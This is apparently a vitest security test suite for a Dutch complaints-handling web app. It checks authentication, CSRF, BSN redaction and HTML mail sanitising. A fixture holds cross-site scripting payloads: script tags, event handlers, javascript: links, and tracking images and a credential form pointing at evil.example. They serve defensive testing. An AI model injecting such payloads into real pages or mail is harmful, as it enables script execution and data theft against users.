import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Hono } from 'hono'
import { createTestDatabase, postgresAvailable, type TestDatabase } from './helpers/db.ts'
import { emailDoc, get, login, makeUser, post, postLogin, seedDraft, setupApp, testConfig, PASSWORD, type Session } from './e2e/fixtures.ts'
import type { AppEnv } from '../src/web/context.ts'
import { mailDocument, sanitizeMailHtml } from '../src/web/html-mail.ts'
import { isPublicFormPath } from '../src/web/public/routes.tsx'
import { confirmDraft } from '../src/review/actions.ts'
import { captureLogs } from '../src/log.ts'

let db: TestDatabase
let app: Hono<AppEnv>
let coord: Session

const EVIL_HTML = `<html><head><script>window.parent.pwned = 1</script><link rel="stylesheet" href="http://evil.example/x.css"><style>body{background:url(http://evil.example/bg.png)}</style></head>
<body onload="alert(1)"><p onclick="alert(2)" style="color:red;background-image:url('http://evil.example/track.gif')">Hallo, mijn BSN is 111222333.</p>
<a href="javascript:alert(3)">klik</a> <a href="JaVaScRiPt:alert(4)">klik2</a>
<img src="http://evil.example/pixel.gif" onerror="alert(5)"><img src="//evil.example/p2.gif"><img src="cid:logo@x">
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o.swf"></object><svg><script>alert(6)</script></svg>
<form action="http://evil.example/steal"><input name="pw"></form><meta http-equiv="refresh" content="0;url=http://evil.example/"></body></html>`

beforeAll(async () => {
  db = await createTestDatabase()
  ;({ app } = await setupApp(db))
  await makeUser(db, 'anna', 'coordinator', 'Anna de Wit')
  await makeUser(db, 'beheer', 'admin', 'Beheerder')
  coord = await login(app, 'anna')
})
afterAll(async () => {
  await db?.close()
})

describe('authentication', () => {
  it('refuses every route without a session, except login, static files and /healthz', async () => {
    const routes = (app as unknown as { routes: { method: string; path: string }[] }).routes.filter(
      (r) => r.method !== 'ALL' && r.path !== '/*',
    )
    expect(routes.length).toBeGreaterThan(15)
    for (const r of routes) {
      const path = r.path.replace(/:[a-z]+/g, '1').replace('/*', '/x')
      const res = await app.request(path, {
        method: r.method,
        body: r.method === 'POST' ? new URLSearchParams({ a: 'b' }) : undefined,
        headers: r.method === 'POST' ? { 'content-type': 'application/x-www-form-urlencoded' } : {},
      })
      // The online complaint form (issue 11) is public by design.
      const open = path === '/login' || path === '/healthz' || path.startsWith('/static/') || isPublicFormPath(path)
      if (open) continue
      const body = await res.text()
      if (r.method === 'GET') {
        expect([303, 401], `${r.method} ${path}`).toContain(res.status)
        if (res.status === 303) expect(res.headers.get('location')).toMatch(/^\/login/)
      } else {
        expect(res.status, `${r.method} ${path}`).toBe(401)
      }
      expect(body).not.toContain('Fatima')
    }
    expect((await app.request('/healthz')).status).toBe(200)
    expect((await app.request('/static/htmx.min.js')).status).toBe(200)
    expect((await app.request('/login')).status).toBe(200)
  })

  it('/healthz answers 503 when the database does not', async () => {
    const dead = await createTestDatabase()
    const { app: deadApp } = await setupApp(dead)
    await dead.close()
    expect((await deadApp.request('/healthz')).status).toBe(503)
  })

  it('sets a HttpOnly SameSite=Strict cookie, Secure with __Host- prefix when COOKIE_SECURE', async () => {
    const { app: secureApp } = await setupApp(db, { config: testConfig({ COOKIE_SECURE: 'true' }) })
    const res = await postLogin(secureApp, 'anna', PASSWORD)
    expect(res.status).toBe(303)
    const c = res.headers.getSetCookie().find((x) => x.includes('klachten-sessie'))!
    expect(c).toMatch(/^__Host-klachten-sessie=/)
    expect(c).toMatch(/HttpOnly/i)
    expect(c).toMatch(/Secure/i)
    expect(c).toMatch(/SameSite=Strict/i)
    expect(c).toMatch(/Path=\//)
    // Only a hash of the token is stored.
    const token = c.split(';')[0].split('=')[1]
    const rows = await db.sql`select id from sessions where id = ${token}`
    expect(rows.length).toBe(0)
  })

  it('locks an account after repeated failures, even for the right password', async () => {
    await makeUser(db, 'kees', 'coordinator')
    for (let i = 0; i < 5; i++) await postLogin(app, 'kees', 'fout wachtwoord!!')
    const res = await postLogin(app, 'kees', PASSWORD)
    expect(res.status).toBe(429)
    expect(await res.text()).toContain('tijdelijk geblokkeerd')
  })

  it('logs out and the session stops working', async () => {
    const s = await login(app, 'anna')
    expect((await post(app, s, '/logout', {})).status).toBe(303)
    expect((await get(app, s, '/')).status).toBe(303)
  })

  it('keeps coordinators out of admin pages and admins out of complaints', async () => {
    const id = await seedDraft(db)
    expect((await get(app, coord, '/admin/users')).status).toBe(403)
    const admin = await login(app, 'beheer')
    expect((await get(app, admin, `/items/${id}`)).status).toBe(404)
    expect((await get(app, admin, '/admin/audit')).status).toBe(200)
  })
})

describe('request size', () => {
  it('refuses an oversized form body before parsing it', async () => {
    const res = await post(app, coord, '/nieuw', { summary: 'x'.repeat(2 * 1024 * 1024) })
    expect(res.status).toBe(413)
  })
})

describe('CSRF', () => {
  it('refuses a state change without the CSRF token, with a wrong one, or from another origin', async () => {
    const id = await seedDraft(db)
    expect((await post(app, coord, `/items/${id}`, { action: 'confirm' }, { csrf: false })).status).toBe(403)
    expect((await post(app, coord, `/items/${id}`, { action: 'confirm', _csrf: 'x'.repeat(43) }, { csrf: false })).status).toBe(403)
    expect(
      (await post(app, coord, `/items/${id}`, { action: 'confirm' }, { headers: { origin: 'https://evil.example', host: 'localhost' } }))
        .status,
    ).toBe(403)
    const [item] = await db.sql`select state from items where id = ${id}`
    expect(item.state).toBe('draft')
    // The header form (htmx) works.
    const ok = await app.request(`/items/${id}`, {
      method: 'POST',
      body: new URLSearchParams({ action: 'save' }),
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: coord.cookie, 'x-csrf-token': coord.csrf },
    })
    expect(ok.status).toBe(303)
  })
})

describe('HTML mail', () => {
  it('sanitises scripts, handlers, javascript: links, remote images and CSS urls', () => {
    const out = sanitizeMailHtml(EVIL_HTML)
    expect(out).not.toMatch(/<script|<iframe|<object|<form|<meta|<link|<style|<svg/i)
    expect(out).not.toMatch(/\son\w+=/i)
    expect(out).not.toMatch(/javascript:/i)
    expect(out).not.toMatch(/evil\.example/)
    expect(out).not.toMatch(/url\(/i)
    expect(out).not.toContain('<img')
    expect(out).not.toContain('111222333')
  })

  it('never shows an image embedded in the mail (cid: or data:): nothing checked it for a BSN', () => {
    const scan = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='
    const out = sanitizeMailHtml(
      `<p>Zie de brief:</p><img src="cid:brief@x"><img src="${scan}"><img src=" DATA:image/png;base64,AAAA"><img src="https://evil.example/t.png">`,
    )
    expect(out).not.toMatch(/<img|base64|evil\.example|cid:/i)
    expect(out.match(/title="Afbeelding uit de e-mail niet getoond"/g)).toHaveLength(3)
    expect(out.match(/title="Externe afbeelding niet geladen"/g)).toHaveLength(1)
    expect(mailDocument('<img src="cid:brief@x">')).toContain("img-src 'none'")
    expect(mailDocument('<img src="cid:brief@x">')).toContain('[afbeelding niet getoond')
  })

  it('shows it only in a sandboxed srcdoc iframe under a strict CSP', async () => {
    const id = await seedDraft(db, { doc: emailDoc('Hallo', { html: EVIL_HTML }) })
    const res = await get(app, coord, `/items/${id}`)
    const html = await res.text()
    const csp = res.headers.get('content-security-policy')!
    expect(csp).toContain("script-src 'self'")
    expect(csp).toContain("img-src 'self' data:")
    expect(csp).not.toMatch(/https?:/)
    const iframe = /<iframe[^>]*>/.exec(html)![0]
    expect(iframe).toContain('sandbox=""')
    expect(iframe).not.toMatch(/allow-scripts|allow-same-origin/)
    const srcdoc = /srcdoc="([^"]*)"/
      .exec(iframe)![1]
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
      .replace(/&#39;/g, "'")
      .replace(/&amp;/g, '&')
    expect(srcdoc).toContain("default-src 'none'; img-src 'none'")
    expect(srcdoc).not.toMatch(/<script|\son\w+=|javascript:|evil\.example/i)
  })

  it('serves attachments as downloads with safe headers', async () => {
    const id = await seedDraft(db, {
      attachments: [{ filename: 'kwaad".html', contentType: 'text/html', content: new TextEncoder().encode('<script>alert(1)</script>') }],
    })
    const logs = captureLogs()
    const res = await Promise.resolve(get(app, coord, `/items/${id}/attachments/0`)).finally(() => logs.stop())
    expect(res.status).toBe(200)
    // A download of (part of) an original is a security event (BIO), without the file name.
    expect(logs.lines.filter((l) => l.event === 'original.download')).toMatchObject([
      { level: 'info', actor: 'anna', itemId: id, part: 'attachment', position: 0 },
    ])
    expect(logs.raw()).not.toContain('kwaad')
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="kwaad_.html"/)
    expect(res.headers.get('content-type')).toBe('application/octet-stream')
    expect(res.headers.get('x-content-type-options')).toBe('nosniff')
    expect(res.headers.get('content-security-policy')).toContain('sandbox')
  })
})

describe('letter page images', () => {
  it('black out a BSN on the scan itself', async () => {
    const sharp = (await import('sharp')).default
    const png = await sharp({ create: { width: 400, height: 200, channels: 3, background: '#ffffff' } })
      .png()
      .toBuffer()
    const text = 'BSN 111 222 333'
    const id = await seedDraft(db, {
      channel: 'letter',
      doc: emailDoc(text, {
        channel: 'letter',
        email: null,
        pages: [
          {
            index: 1,
            offset: 0,
            text,
            width: 400,
            height: 200,
            confidence: 90,
            source: 'ocr',
            rotation: 0,
            flags: [],
            words: [
              { text: 'BSN', confidence: 90, bbox: { x0: 10, y0: 10, x1: 60, y1: 40 }, start: 0, end: 3 },
              { text: '111', confidence: 90, bbox: { x0: 70, y0: 10, x1: 110, y1: 40 }, start: 4, end: 7 },
              { text: '222', confidence: 90, bbox: { x0: 120, y0: 10, x1: 160, y1: 40 }, start: 8, end: 11 },
              { text: '333', confidence: 90, bbox: { x0: 170, y0: 10, x1: 210, y1: 40 }, start: 12, end: 15 },
            ],
          },
        ],
      }),
      pageImages: [{ page: 1, contentType: 'image/png', width: 400, height: 200, data: png }],
    })
    const res = await get(app, coord, `/items/${id}/pages/1`)
    expect(res.status).toBe(200)
    expect(res.headers.get('x-content-type-options')).toBe('nosniff')
    const { data, info } = await sharp(Buffer.from(await res.arrayBuffer()))
      .raw()
      .toBuffer({ resolveWithObject: true })
    const at = (x: number, y: number) => data[(y * info.width + x) * info.channels]
    expect(at(90, 25)).toBe(0) // inside "111": black
    expect(at(190, 25)).toBe(0) // inside "333": black
    expect(at(30, 25)).toBe(255) // "BSN" itself stays
    const html = await (await get(app, coord, `/items/${id}`)).text()
    expect(html).not.toMatch(/111 222 333/)
  })
})

describe('concurrent confirmation (PostgreSQL)', async () => {
  const available = await postgresAvailable()
  it.skipIf(!available)('two coordinators confirming at the same moment get consecutive numbers', async () => {
    const pg = await createTestDatabase({ kind: 'postgres', max: 12 })
    try {
      const { queue } = await setupApp(pg)
      const a = await makeUser(pg, 'anna', 'coordinator')
      const b = await makeUser(pg, 'bert', 'coordinator')
      const ids: number[] = []
      for (let i = 0; i < 20; i++) ids.push(await seedDraft(pg))
      const deps = { db: pg, queue, mailFrom: 'klachten@ijmondwerkt.nl' }
      const results = await Promise.all(
        ids.map((id, i) =>
          confirmDraft(
            deps,
            i % 2 ? { userId: a.id, username: 'anna', role: 'coordinator' } : { userId: b.id, username: 'bert', role: 'coordinator' },
            id,
          ),
        ),
      )
      const nums = results.map((r) => Number(r.registration.number.slice(-5))).sort((x, y) => x - y)
      expect(nums).toEqual(Array.from({ length: 20 }, (_, i) => i + 1))
      // Both coordinators on the same draft: exactly one wins.
      const one = await seedDraft(pg)
      const race = await Promise.allSettled([
        confirmDraft(deps, { userId: a.id, username: 'anna', role: 'coordinator' }, one),
        confirmDraft(deps, { userId: b.id, username: 'bert', role: 'coordinator' }, one),
      ])
      expect(race.filter((r) => r.status === 'fulfilled').length).toBe(1)
      const [{ n }] = await pg.sql`select count(*)::int as n from registrations`
      expect(n).toBe(21)
    } finally {
      await pg.close()
    }
  })
})
